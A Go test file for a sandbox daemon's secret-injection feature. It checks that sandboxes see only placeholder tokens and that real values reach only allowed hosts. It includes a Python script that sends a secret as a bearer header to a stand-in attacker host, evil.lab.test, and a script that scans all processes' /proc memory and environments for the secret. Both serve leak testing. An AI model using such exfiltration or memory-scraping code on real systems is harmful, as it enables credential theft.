@@ -1,0 +1,501 @@
+package test
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/fs"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/google/go-containerregistry/pkg/v1/mutate"
+	"github.com/google/go-containerregistry/pkg/v1/tarball"
+
+	"github.com/useshards/shard"
+	"github.com/useshards/shard/internal/testenv"
+)
+
+// trusting is a busybox image that trusts somebody, python the same with Python and the lab's authority.
+const (
+	trusting       = "test/trusting:latest"
+	trustingPython = "test/trusting-python:latest"
+	trustFile      = "/etc/ssl/certs/ca-certificates.crt"
+)
+
+// secretDaemon is a daemon that trusts the lab's servers and has both images.
+func secretDaemon(t *testing.T, o testenv.Options) *testenv.Daemon {
+	t.Helper()
+	o.Lab = testenv.NewLab(t)
+	authorities := filepath.Join(t.TempDir(), "lab.pem")
+	if err := os.WriteFile(authorities, o.Lab.CA(), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"dest.lab.test", "other.lab.test", "evil.lab.test"} {
+		o.Lab.Name(name, testenv.LabWebAddr)
+	}
+	o.Args = append(o.Args, "--dns", testenv.LabDNSAddr)
+	o.Env = append(o.Env, "SSL_CERT_FILE="+authorities)
+	archive := testenv.PythonArchive(t)
+	d := testenv.Start(t, o)
+	python, err := tarball.ImageFromPath(archive, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	python, err = mutate.AppendLayers(python, testenv.Layer(t, testenv.Entry{Name: trustFile[1:], Body: string(o.Lab.CA())}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	d.Import(trustingPython, python)
+	importTrusting(t, d)
+	return d
+}
+
+func importTrusting(t *testing.T, d *testenv.Daemon) {
+	t.Helper()
+	d.Import(trusting, testenv.Image(t, testenv.BusyboxConfig(), testenv.Layer(t, testenv.BusyboxEntries(t)...),
+		testenv.Layer(t, testenv.Entry{Name: trustFile[1:], Body: "nobody yet"})))
+}
+
+// setSecret sets a secret by the command line, with the value on stdin.
+func setSecret(t *testing.T, d *testenv.Daemon, value string, args ...string) {
+	t.Helper()
+	r := d.Feed(strings.NewReader(value+"\n"), append([]string{"secret", "set"}, args...)...)
+	if r.Code != 0 || r.Stdout != args[len(args)-1]+"\n" || r.Stderr != "" {
+		t.Fatalf("secret set %v: %+v", args, r)
+	}
+}
+
+// seen records the headers of requests to https://…/seen.
+type seen struct {
+	mu      sync.Mutex
+	headers []string
+}
+
+func (s *seen) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	s.mu.Lock()
+	s.headers = append(s.headers, r.Host+" "+r.Header.Get("Authorization"))
+	s.mu.Unlock()
+	_, _ = fmt.Fprintln(w, "you said", r.Header.Get("Authorization"))
+}
+
+// last is the newest request.
+func (s *seen) last() string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if len(s.headers) == 0 {
+		return ""
+	}
+	return s.headers[len(s.headers)-1]
+}
+
+// bearer asks URLs with the variable of that name in a header, with what the sandbox trusts, and prints a line for each.
+const bearer = `
+import http.client, os, ssl, sys, urllib.parse
+for url in sys.argv[2:]:
+    u = urllib.parse.urlsplit(url)
+    try:
+        kind = http.client.HTTPSConnection if u.scheme == "https" else http.client.HTTPConnection
+        c = kind(u.hostname, u.port, timeout=30)
+        c.request("GET", u.path, headers={"Authorization": "Bearer " + os.environ.get(sys.argv[1], "none")})
+        r = c.getresponse()
+        print(r.status, r.read().decode().strip(), flush=True)
+    except Exception as e:
+        print("failed", type(e).__name__, str(e).replace("\n", " "), flush=True)
+`
+
+func send(t *testing.T, d *testenv.Daemon, box, name string, urls ...string) []string {
+	t.Helper()
+	r := d.Shard(append([]string{"exec", box, "python3", "-c", bearer, name}, urls...)...)
+	lines := strings.Split(strings.TrimSuffix(r.Stdout, "\n"), "\n")
+	if r.Code != 0 || len(lines) != len(urls) {
+		t.Fatalf("send: exit code %d\n%s%s", r.Code, r.Stdout, r.Stderr)
+	}
+	return lines
+}
+
+// TestSecretLife is cases 80 and 84: a secret that comes later, a new value, a crash of the daemon, redirects to elsewhere, a
+// removal, and the states that allow a change.
+func TestSecretLife(t *testing.T) {
+	t.Parallel()
+	d := secretDaemon(t, testenv.Options{})
+	got := &seen{}
+	d.Lab().Web().Handle("/seen", got)
+	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
+		const dest, evil = "https://dest.lab.test/seen", "https://evil.lab.test/seen"
+		name := "TOKEN_" + strings.ToUpper(provider)
+		mock := "mock-" + name
+		id := box(t, d, provider, trustingPython)
+		setSecret(t, d, "value-one-"+provider, "--dest", "DEST.lab.test.", name)
+		refused(t, d.Shard("secret", "grant", id, name), "running", "stop it first")
+		if a := call(t, d, "POST", "/v0/sandboxes/"+id+"/secrets/"+name, nil); a.code(t) != shard.CodeSandboxLive {
+			t.Errorf("grant to a running sandbox: %d %s", a.Status, a.Body)
+		}
+		d.Must("stop", id)
+		for range 2 {
+			if out := d.Must("secret", "grant", id, name); out != id {
+				t.Errorf("grant printed %q", out)
+			}
+		}
+		if in := inspect(t, d, id); !slices.Equal(in.Secrets, []string{name}) || in.Policy != "" {
+			t.Errorf("%+v", in)
+		}
+		d.Must("start", id)
+		want := func(when, url, line, header string) {
+			t.Helper()
+			if lines := send(t, d, id, name, url); lines[0] != line {
+				t.Errorf("%s: %s: the sandbox got %q, want %q", when, url, lines[0], line)
+			}
+			if got := got.last(); got != header {
+				t.Errorf("%s: %s: the host got %q, want %q", when, url, got, header)
+			}
+		}
+		echo := "200 you said Bearer " + mock // whatever the host echoes
+		want("at first", dest, echo, "dest.lab.test Bearer value-one-"+provider)
+		want("elsewhere", evil, echo, "evil.lab.test Bearer "+mock) // nobody looks into that: it is the host's own certificate
+		want("in the clear", "http://evil.lab.test/seen", echo, "evil.lab.test Bearer "+mock)
+		setSecret(t, d, "value-two-"+provider, name)
+		want("after a rotation", dest, echo, "dest.lab.test Bearer value-two-"+provider)
+		setSecret(t, d, "value-three-"+provider, "--dest", "*.lab.test", name)
+		want("with other destinations", evil, echo, "evil.lab.test Bearer value-three-"+provider)
+		setSecret(t, d, "value-three-"+provider, "--dest", "dest.lab.test", name)
+		d.Kill9()
+		d.Restart()
+		want("after a crash", dest, echo, "dest.lab.test Bearer value-three-"+provider)
+		want("after a crash", evil, echo, "evil.lab.test Bearer "+mock)
+		d.Must("stop", id)
+		d.Must("start", id)
+		want("after a stop", dest, echo, "dest.lab.test Bearer value-three-"+provider)
+		testenv.Eventually(t, "the misuses are counted", func() (bool, string) {
+			all := inspect(t, d, id).Misuses
+			return slices.ContainsFunc(all, func(m shard.SecretMisuse) bool {
+				return m.Secret == name && m.Count >= 1 && m.Host == "evil.lab.test" && m.Reason != ""
+			}), fmt.Sprintf("%+v", all)
+		})
+
+		for _, why := range []struct{ url, word string }{
+			{dest, "dest.lab.test: the value is put in"}, {"https://DEST.lab.test:443/x?y", "the value is put in"}, {evil, "none of the destinations"},
+			{"http://dest.lab.test/", "not encrypted"}, {"https://dest.lab.test:8443/", "the port is not 443"}, {"https://203.0.113.7/", "none of the destinations"},
+		} {
+			if out := d.Must("secret", "check", id, name, why.url); !strings.Contains(out, why.word) {
+				t.Errorf("check %s: %q", why.url, out)
+			}
+		}
+		if a := call(t, d, "DELETE", "/v0/secrets/"+name, nil); a.code(t) != shard.CodeInUse || !strings.Contains(string(a.Body), id) {
+			t.Errorf("remove a held secret: %d %s", a.Status, a.Body)
+		}
+		refused(t, d.Shard("secret", "set", "--placeholder", "another-placeholder", name, "x-value"), "cannot change")
+		d.Must("secret", "remove", "--force", name)
+		want("after the removal", dest, "200 you said Bearer "+mock, "dest.lab.test Bearer "+mock)
+		refused(t, d.Shard("secret", "set", "--dest", "dest.lab.test", name, "x-value"), "ungrant")
+		if out := d.Must("secret", "check", id, name, dest); !strings.Contains(out, "no secret") {
+			t.Errorf("check after the removal: %q", out)
+		}
+		refused(t, d.Shard("secret", "ungrant", id, name), "running")
+		d.Must("stop", id)
+		d.Must("secret", "ungrant", id, name)
+		d.Must("start", id)
+		if out := sh(t, d, id, "echo ${"+name+"-none} $SSL_CERT_FILE; grep -c BEGIN "+trustFile); out != "none "+trustFile+"\n2" {
+			t.Errorf("after the ungrant: %q", out)
+		}
+		setSecret(t, d, "value-four", "--dest", "dest.lab.test", name)
+		want("after the ungrant", "http://dest.lab.test/seen", "200 you said Bearer none", "dest.lab.test Bearer none")
+	})
+}
+
+// TestSecretEnvironment: every kind of command finds the placeholder, and none the value.
+func TestSecretEnvironment(t *testing.T) {
+	t.Parallel()
+	d := start(t)
+	importTrusting(t, d)
+	setSecret(t, d, "value-of-a", "--dest", "a.example", "A_KEY")
+	setSecret(t, d, "value-of-b", "--dest", "b.example", "--placeholder", "sk-test-00000000", "B_KEY")
+	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
+		id := box(t, d, provider, "--secret", "A_KEY", "--secret", "B_KEY", "--secret", "A_KEY", "--env", "OWN=yes", trusting)
+		const line = "mock-A_KEY sk-test-00000000 yes yes " + trustFile + " " + trustFile + " " + trustFile + " " + trustFile
+		const script = "echo $A_KEY $B_KEY $OWN $FROM_IMAGE $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $NODE_EXTRA_CA_CERTS $CURL_CA_BUNDLE"
+		if got := sh(t, d, id, script); got != line {
+			t.Errorf("exec: %q", got)
+		}
+		if got := inspect(t, d, id).Secrets; !slices.Equal(got, []string{"A_KEY", "B_KEY"}) {
+			t.Errorf("secrets: %q", got)
+		}
+		d.Must("run", id, "--name", "p", "--restart", "always", "--", "sh", "-c", script+"; exec sleep 600")
+		logs := func(n int) {
+			t.Helper()
+			testenv.Eventually(t, "the process has told its environment", func() (bool, string) {
+				out := d.Must("logs", id, "p")
+				return out == strings.TrimSuffix(strings.Repeat(line+"\n", n), "\n"), out
+			})
+		}
+		logs(1)
+		d.Kill9()
+		d.Restart()
+		if got := sh(t, d, id, script); got != line {
+			t.Errorf("exec after a crash: %q", got)
+		}
+		d.Must("stop", id)
+		d.Must("start", id)
+		logs(2)
+		if got := sh(t, d, id, "grep -c BEGIN "+trustFile+"; head -n 1 "+trustFile); got != "1\nnobody yet" {
+			t.Errorf("the trust file after two starts: %q", got)
+		}
+	})
+}
+
+// TestSecretRefusals: what cannot be granted is refused, by a name and a code, and leaves nothing behind.
+func TestSecretRefusals(t *testing.T) {
+	t.Parallel()
+	d := start(t)
+	importTrusting(t, d)
+	for _, name := range []string{"A_KEY", "FROM_IMAGE", "SSL_CERT_FILE"} {
+		setSecret(t, d, "value-of-all", "--dest", "a.example", name)
+	}
+	setSecret(t, d, "value-of-all", "--dest", "a.example", "--on-misuse", "pause", "PAUSING")
+	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
+		create := func(image string, secrets, env []string) answer {
+			return call(t, d, "POST", "/v0/sandboxes?wait=true", shard.CreateRequest{Image: image, Provider: provider, Secrets: secrets, Env: env})
+		}
+		for what, tc := range map[string]struct {
+			a    answer
+			code shard.Code
+			word string
+		}{
+			"an unknown secret":           {create(trusting, []string{"NOBODY"}, nil), shard.CodeInvalidRequest, "there is no secret"},
+			"a bad name":                  {create(trusting, []string{"../x"}, nil), shard.CodeInvalidRequest, "not valid"},
+			"a variable of its name":      {create(trusting, []string{"A_KEY"}, []string{"A_KEY=1"}), shard.CodeInvalidRequest, "A_KEY already"},
+			"the image's variable":        {create(trusting, []string{"FROM_IMAGE"}, nil), shard.CodeInvalidRequest, "FROM_IMAGE already"},
+			"the name of a CA variable":   {create(trusting, []string{"SSL_CERT_FILE"}, nil), shard.CodeInvalidRequest, "cannot have it"},
+			"a CA variable of one's own":  {create(trusting, []string{"A_KEY"}, []string{"CURL_CA_BUNDLE=/x"}), shard.CodeInvalidRequest, "CURL_CA_BUNDLE"},
+			"an image that trusts nobody": {create(image, []string{"A_KEY"}, nil), shard.CodeInvalidRequest, "ca-certificates"},
+			"a provider without pause":    {create(trusting, []string{"PAUSING"}, nil), shard.CodeUnsupported, "pause"},
+		} {
+			if tc.a.code(t) != tc.code || !strings.Contains(string(tc.a.Body), tc.word) {
+				t.Errorf("%s: %d %s", what, tc.a.Status, tc.a.Body)
+			}
+		}
+		if left := call(t, d, "GET", "/v0/sandboxes?all=true", nil); !strings.Contains(string(left.Body), `"sandboxes":[]`) {
+			t.Errorf("refused creates left %s", left.Body)
+		}
+		id := box(t, d, provider, "--env", "REQUESTS_CA_BUNDLE=/x", trusting)
+		bare := box(t, d, provider, image)
+		d.Must("stop", id, bare)
+		grant := func(id, name string) answer { return call(t, d, "POST", "/v0/sandboxes/"+id+"/secrets/"+name, nil) }
+		for what, tc := range map[string]struct {
+			a    answer
+			code shard.Code
+		}{
+			"an unknown secret":           {grant(id, "NOBODY"), shard.CodeNotFound},
+			"a bad name":                  {grant(id, "nobody"), shard.CodeInvalidRequest},
+			"an unknown sandbox":          {grant("nobody", "A_KEY"), shard.CodeNotFound},
+			"the image's variable":        {grant(id, "FROM_IMAGE"), shard.CodeInvalidRequest},
+			"the name of a CA variable":   {grant(bare, "SSL_CERT_FILE"), shard.CodeInvalidRequest},
+			"a CA variable of one's own":  {grant(id, "A_KEY"), shard.CodeInvalidRequest},
+			"an image that trusts nobody": {grant(bare, "A_KEY"), shard.CodeInvalidRequest},
+			"a provider without pause":    {grant(bare, "PAUSING"), shard.CodeUnsupported},
+		} {
+			if tc.a.code(t) != tc.code {
+				t.Errorf("grant: %s: %d %s", what, tc.a.Status, tc.a.Body)
+			}
+		}
+		for _, ref := range []string{id, bare} {
+			if in := inspect(t, d, ref); in.Secrets != nil {
+				t.Errorf("%+v", in)
+			}
+			d.Must("start", ref)
+		}
+		// A pipe in the place of the trust file holds nobody up.
+		sh(t, d, bare, "mkdir -p /etc/ssl/certs && mkfifo "+trustFile)
+		d.Must("stop", bare)
+		if a := grant(bare, "A_KEY"); a.code(t) != shard.CodeInvalidRequest {
+			t.Errorf("a pipe: %d %s", a.Status, a.Body)
+		}
+		d.Must("start", bare)
+		d.Must("remove", "--force", id, bare)
+	})
+}
+
+// TestSecretCommand: where values come from, what is shown of a secret, and secrets at rest under a host key.
+func TestSecretCommand(t *testing.T) {
+	t.Parallel()
+	keyFile := filepath.Join(t.TempDir(), "key")
+	writeKey := func(digits string) {
+		if err := os.WriteFile(keyFile, []byte(strings.Repeat(digits, 32)), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	writeKey("a1")
+	d := testenv.Start(t, testenv.Options{Args: []string{"--secret-key-file", keyFile}})
+	if r := d.Shard("secret", "set", "--dest", "api.example.com", "FROM_ARG", "value-from-arg"); r.Code != 0 || !strings.HasPrefix(r.Stderr, "warning: ") || strings.Contains(r.Stderr, "value-from-arg") {
+		t.Errorf("an argument: %+v", r)
+	}
+	if r := d.Feed(strings.NewReader("value-from-dash\r\n"), "secret", "set", "--destination", "api.example.com", "--dest", "*.example.org", "FROM_DASH", "-"); r.Code != 0 || r.Stderr != "" {
+		t.Errorf("a dash: %+v", r)
+	}
+	if got := d.Must("secret", "list"); !strings.HasPrefix(got, "NAME        DESTINATIONS                     PLACEHOLDER      UPDATED\n"+
+		"FROM_ARG    api.example.com                  mock-FROM_ARG    ") || strings.Contains(got, "value-from") {
+		t.Errorf("list:\n%s", got)
+	}
+	var list []shard.Secret
+	if err := json.Unmarshal([]byte(d.Must("secret", "ls", "--format", "json")), &list); err != nil || len(list) != 2 || len(list[1].Destinations)+len(list[0].Destinations) != 3 {
+		t.Errorf("%+v %v", list, err)
+	}
+	refused(t, d.Feed(strings.NewReader("\n"), "secret", "set", "--dest", "api.example.com", "NOTHING"), "empty")
+	refused(t, d.Feed(strings.NewReader("two\nlines"), "secret", "set", "--dest", "api.example.com", "LINES"), "line end")
+	refused(t, d.Feed(strings.NewReader("value"), "secret", "set", "--dest", "*.com", "WIDE"), "too wide")
+	refused(t, d.Feed(strings.NewReader("value"), "secret", "set", "NEW"), "destinations")
+	refused(t, d.Shard("secret", "remove", "NOBODY"), "no secret")
+	if page := call(t, d, "GET", "/v0/secrets?limit=1", nil); !strings.Contains(string(page.Body), `"next":"`) {
+		t.Errorf("%s", page.Body)
+	}
+	for _, name := range []string{"FROM_ARG", "FROM_DASH"} {
+		info, err := os.Stat(filepath.Join(d.Root, "secrets", name))
+		data, err2 := os.ReadFile(filepath.Join(d.Root, "secrets", name))
+		if err != nil || err2 != nil || info.Mode().Perm() != 0o600 || strings.Contains(string(data), "value-from") || strings.Contains(string(data), "example") {
+			t.Errorf("%s: %v %v %v %s", name, err, err2, info.Mode(), data)
+		}
+	}
+	d.Stop()
+	d.Restart()
+	if got := d.Shard("secret", "list"); got.Code != 0 {
+		t.Errorf("with the same key: %+v", got)
+	}
+	d.Stop()
+	writeKey("b2")
+	d.Restart()
+	if got := d.Shard("secret", "list"); got.Code != 1 || strings.Count(got.Stderr, "another") != 0 || strings.Count(got.Stderr, "encrypted with the host key") != 2 {
+		t.Errorf("with another key: %+v", got)
+	}
+	refused(t, d.Feed(strings.NewReader("value"), "secret", "set", "--dest", "api.example.com", "MORE"), "FROM_ARG", "cannot be read")
+	d.Must("secret", "remove", "FROM_ARG", "FROM_DASH")
+	setSecret(t, d, "value", "--dest", "api.example.com", "MORE")
+}
+
+// TestSecretIsNowhere is cases 67 and 82: after much use, the value is in the store, which its owner alone can read, and
+// neither in the data directory, the logs, answers, process lists and the sandbox's files, nor in the memory of what runs there.
+func TestSecretIsNowhere(t *testing.T) {
+	t.Parallel()
+	d := secretDaemon(t, testenv.Options{Env: []string{"SHARD_LOG_LEVEL=debug"}})
+	got := &seen{}
+	d.Lab().Web().Handle("/seen", got)
+	d.EachProvider(t, func(t *testing.T, d *testenv.Daemon, provider string) {
+		value := "v4lue" + sum(noise(16))[:32]
+		name := "KEY_" + strings.ToUpper(provider)
+		setSecret(t, d, value, "--dest", "dest.lab.test", name)
+		id := box(t, d, provider, "--secret", name, "--disk", "512MiB", trustingPython)
+		var answers strings.Builder
+		note := func(a answer) { answers.Write(a.Body) }
+		for _, line := range send(t, d, id, name, "https://dest.lab.test/seen", "https://dest.lab.test/seen", "https://evil.lab.test/seen", "http://dest.lab.test/seen",
+			"https://nowhere.lab.test/", "https://dest.lab.test:8443/") {
+			answers.WriteString(line)
+		}
+		if !slices.Contains(got.headers, "dest.lab.test Bearer "+value) {
+			t.Fatalf("the host never got the value: %q", got.headers)
+		}
+		// A program that keeps what it was answered, in memory and in a file.
+		d.Must("run", id, "--name", "keeper", "--", "python3", "-c", bearer+"\nopen('/root/kept','w').write(repr(r.getheaders())+repr(c))\nimport time\ntime.sleep(600)", name, "https://dest.lab.test/seen")
+		testenv.Eventually(t, "the program keeps its answer", func() (bool, string) {
+			return d.Shard("exec", id, "test", "-s", "/root/kept").Code == 0, d.Shard("logs", id, "keeper").Stdout
+		})
+		for _, path := range []string{"/v0/secrets", "/v0/sandboxes/" + id, "/v0/sandboxes/" + id + "/egress-log", "/v0/sandboxes/" + id + "/exec", "/metrics", "/v0/daemon"} {
+			note(call(t, d, "GET", path, nil))
+		}
+		put := func(name string, r shard.PutSecretRequest) {
+			note(call(t, d, "PUT", "/v0/secrets/"+name, r))
+		}
+		put("bad name", shard.PutSecretRequest{Value: value, Destinations: []string{"a.example"}})
+		put(name, shard.PutSecretRequest{Value: value, Destinations: []string{"*.com"}})
+		put(name, shard.PutSecretRequest{Value: value + "\n"})
+		put("OTHER", shard.PutSecretRequest{Value: value, Destinations: []string{"a.example"}, OnMisuse: "what"})
+		note(call(t, d, "PUT", "/v0/secrets/"+name, map[string]any{"value": []string{value}}))
+		note(call(t, d, "PUT", "/v0/secrets/"+name, `{"value":"`+value))
+		note(call(t, d, "POST", "/v0/sandboxes?wait=true", shard.CreateRequest{Image: image, Provider: provider, Secrets: []string{name}}))
+
+		// All forms in which it went over the wire.
+		needles := []string{value, base64.StdEncoding.EncodeToString([]byte(value))[:40]}
+		for _, n := range needles {
+			if before, _, found := strings.Cut(answers.String(), n); found {
+				t.Errorf("an answer holds the value, behind …%s", before[max(0, len(before)-200):])
+			}
+			if strings.Contains(d.Log(), n) {
+				t.Errorf("the daemon's log holds the value")
+			}
+			inProcesses(t, n)
+			d.Must("exec", id, "sync")
+			// Files come and go meanwhile: an exit code of 2 is no failure.
+			out, err := exec.CommandContext(t.Context(), "grep", "-rlaFs", "--devices=skip", n, d.Root).Output()
+			if e, ok := errors.AsType[*exec.ExitError](err); err != nil && (!ok || e.ExitCode() > 2) {
+				t.Fatalf("grep: %v", err)
+			}
+			for _, file := range strings.Fields(string(out)) {
+				if rel, _ := filepath.Rel(d.Root, file); rel != filepath.Join("secrets", name) {
+					t.Errorf("the value is in %s", rel)
+				}
+			}
+		}
+		// As root in the sandbox. What is looked for is sent backwards, so that looking does not find itself.
+		backwards := []rune(value)
+		slices.Reverse(backwards)
+		if out := sh(t, d, id, "echo "+string(backwards)+" | python3 -c '"+memory+"'"); !strings.HasPrefix(out, "looked at ") || strings.Contains(out, "found") {
+			t.Errorf("in the sandbox's memory: %s", out)
+		}
+		err := filepath.WalkDir(filepath.Join(d.Root, "secrets"), func(path string, e fs.DirEntry, err error) error {
+			if info, err := e.Info(); err != nil || info.Mode().Perm()&0o077 != 0 {
+				t.Errorf("%s: %v %v", path, info, err)
+			}
+			return err
+		})
+		if err != nil {
+			t.Error(err)
+		}
+	})
+}
+
+// inProcesses looks through the arguments and environments of every process of this host.
+func inProcesses(t *testing.T, needle string) {
+	t.Helper()
+	for _, pattern := range []string{"/proc/[0-9]*/cmdline", "/proc/[0-9]*/environ"} {
+		files, err := filepath.Glob(pattern)
+		if err != nil || len(files) == 0 {
+			t.Fatal(pattern, err)
+		}
+		for _, file := range files {
+			if data, err := os.ReadFile(file); err == nil && strings.Contains(string(data), needle) {
+				t.Errorf("the value is in %s", file)
+			}
+		}
+	}
+}
+
+// memory looks through the memory and the environments of all processes but itself.
+const memory = `
+import os, sys
+needle = sys.stdin.readline().strip()[::-1].encode()
+looked = 0
+for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
+    try:
+        if needle in open("/proc/%s/environ" % pid, "rb").read():
+            print("found in the environment of", pid)
+        with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
+            for line in maps:
+                part = line.split()
+                begin, end = (int(x, 16) for x in part[0].split("-"))
+                if "r" not in part[1] or end - begin > 1 << 28:
+                    continue
+                try:
+                    mem.seek(begin)
+                    if needle in mem.read(end - begin):
+                        print("found in the memory of", pid)
+                    looked += 1
+                except (OSError, ValueError, OverflowError):
+                    pass
+    except OSError:
+        pass
+print("looked at", looked)
+`
